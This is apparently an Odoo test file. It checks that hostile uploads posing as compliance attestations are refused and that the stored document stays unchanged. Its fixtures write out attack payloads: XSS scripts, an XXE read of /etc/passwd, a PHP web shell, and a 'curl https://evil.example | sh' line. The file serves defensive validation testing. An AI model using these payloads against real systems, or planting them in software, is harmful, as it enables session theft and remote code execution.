"""Abuse: hostile files uploaded as vigilance documents are all refused with a clear message, and the
provider's current document stays as it was."""

import base64
import re

from odoo.addons.lbc_compliance.tests.common import PDF, LbcComplianceCommon
from odoo.exceptions import UserError, ValidationError
from odoo.tests import tagged

CLEAR_MESSAGE = re.compile(r"PDF, PNG or JPEG|too large|attach the document|could not be read")
CAP_MB = 1


def _html_first_polyglots():
    """Files that start as HTML (or a PE executable) and carry a PDF header further on."""
    script = b"<script>alert(document.domain)</script>"
    return [
        ("html comment + pdf", "a.pdf", base64.b64encode(b"<html><!--\n" + PDF + b"-->" + script + b"</html>")),
        ("script then pdf", "a.pdf", base64.b64encode(script + b"\n" + PDF)),
        ("html with pdf header inside", "a.pdf", base64.b64encode(b"<html>%PDF-1.4\n" + script)),
        ("pe header + pdf", "a.pdf", base64.b64encode(b"MZ" + PDF)),
    ]


def _hostile_files():
    """(label, file name, base64 payload): at least 50 files no vigilance document may be."""
    script = b"<script>fetch('/web/session/get_session_info').then(r=>r.text()).then(alert)</script>"
    html = [
        b"<html><body>" + script + b"</body></html>",
        b"<!DOCTYPE html><html>" + script + b"</html>",
        b"<HTML><BODY ONLOAD=alert(1)></BODY></HTML>",
        b"<html><iframe src='javascript:alert(1)'></iframe></html>",
        b"\xef\xbb\xbf<html>" + script + b"</html>",
        b"   \n\t<!doctype html><p>hi</p>" + script,
        b"<head><meta http-equiv='refresh' content='0;url=https://evil.example'></head>",
        b"<body><form action='https://evil.example'><input name=password></form></body>",
        b"<title>x</title>" + script,
        b"<!-- comment --><html>" + script + b"</html>",
    ]
    svg = [
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>",
        b'<?xml version="1.0" standalone="no"?><!DOCTYPE svg><svg><a xlink:href="javascript:alert(1)"/></svg>',
        b'<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">' + script + b"</body></foreignObject></svg>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>',
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg>&xxe;</svg>',
    ]
    polyglot = [
        b"<!DOCTYPE html>" + PDF + script,
        b"<svg>" + PDF + b"</svg>",
        b"<?xml version='1.0'?>" + PDF,
    ]
    executables = [
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200,
        b"\x7fELF\x01\x01\x01\x00" + b"\x00" * 300,
        b"\x7fELF" + PDF,
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"\x80\x00\x00\x00" + b"PE\x00\x00",
        b"MZ" + b"\x00" * 58 + b"\x40\x00\x00\x00PE\x00\x00L\x01" + b"\x00" * 100,
        b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100,
        b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 100,
        b"#!/bin/sh\ncurl https://evil.example | sh\n",
        b"<?php system($_GET['c']); ?>",
    ]
    archives = [
        b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 20 + b"doc.pdf" + PDF,
        b"PK\x05\x06" + b"\x00" * 18,
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 50,
        b"Rar!\x1a\x07\x00" + b"\x00" * 50,
        b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 50,
        b"BZh91AY&SY" + b"\x00" * 50,
    ]
    other = [
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,",
        b"BM" + b"\x00" * 60,
        b"II*\x00\x08\x00\x00\x00" + b"\x00" * 40,
        b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}",
        b'{"type": "attestation", "valid": true}',
        b"This is a plain text attestation, trust me.",
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100,
        b"alert(document.cookie);\n",
        b"<?xml version='1.0'?><attestation valid='true'/>",
        b"siret;valid\n12345678900011;true\n",
        b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 40,
        b"OggS\x00\x02" + b"\x00" * 40,
    ]
    files = []
    for group, payloads, name in (
        ("html", html, "attestation.pdf"),
        ("svg", svg, "attestation.svg"),
        ("polyglot", polyglot, "attestation.pdf"),
        ("executable", executables, "attestation.pdf"),
        ("archive", archives, "attestation.zip"),
        ("other", other, "attestation.pdf"),
    ):
        files += [(f"{group} {i}", name, base64.b64encode(p)) for i, p in enumerate(payloads)]
    cap = CAP_MB * 1024 * 1024
    files += [
        ("oversized pdf", "big.pdf", base64.b64encode(PDF + b"0" * cap)),
        ("oversized pdf x3", "big.pdf", base64.b64encode(PDF + b"0" * (3 * cap))),
        ("oversized png", "big.png", base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * (cap + 1))),
        ("empty", "empty.pdf", b""),
        ("empty base64", "empty.pdf", base64.b64encode(b"")),
        ("none", "none.pdf", None),
        ("not base64", "x.pdf", b"%%%not base64!!!"),
        ("base64 text str", "x.pdf", "@@@"),
    ]
    return files


@tagged("post_install", "-at_install")
class TestAbuseUpload(LbcComplianceCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["ir.config_parameter"].sudo().set_param("lbc_compliance.max_file_size_mb", str(CAP_MB))

    def setUp(self):
        super().setUp()
        self._make_compliant(self.provider_a)

    def test_hostile_uploads_refused(self):
        self._assert_all_refused(_hostile_files(), minimum=50)

    def test_html_first_polyglots_refused(self):
        self._assert_all_refused(_html_first_polyglots(), minimum=4)

    def _assert_all_refused(self, files, minimum):
        provider = self.provider_a.with_user(self.provider_a_admin)
        Doc = self.env["lbc.compliance.document"].sudo()
        current = Doc.search([("partner_id", "=", self.provider_a.id), ("is_current", "=", True)])
        self.assertTrue(current)
        before = {doc.id: (doc.state, doc.file, doc.file_name, doc.file_size) for doc in current}
        count_before = Doc.search_count([("partner_id", "=", self.provider_a.id)])
        self.assertGreaterEqual(len(files), minimum)
        accepted, unclear = [], []
        for label, name, payload in files:
            try:
                with self.env.cr.savepoint():
                    provider.action_lbc_upload_compliance_document("urssaf", name, payload, "2026-11-01")
                accepted.append(label)
            except (UserError, ValidationError) as error:
                if not CLEAR_MESSAGE.search(str(error)):
                    unclear.append(f"{label}: {error}")
        self.assertEqual(accepted, [], f"{len(accepted)} of {len(files)} hostile files accepted")
        self.assertEqual(unclear, [], "every refusal says why")
        self.env.invalidate_all()
        after = Doc.search([("partner_id", "=", self.provider_a.id), ("is_current", "=", True)])
        self.assertEqual(after, current, "the current documents are unchanged")
        self.assertEqual({doc.id: (doc.state, doc.file, doc.file_name, doc.file_size) for doc in after}, before)
        self.assertEqual(Doc.search_count([("partner_id", "=", self.provider_a.id)]), count_before)
        # the same call takes a real PDF: the refusals above are about the files, not the call
        new_id = provider.action_lbc_upload_compliance_document(
            "urssaf", "urssaf.pdf", base64.b64encode(PDF), "2026-11-01"
        )
        self.assertEqual(Doc.browse(new_id).file_mimetype, "application/pdf")
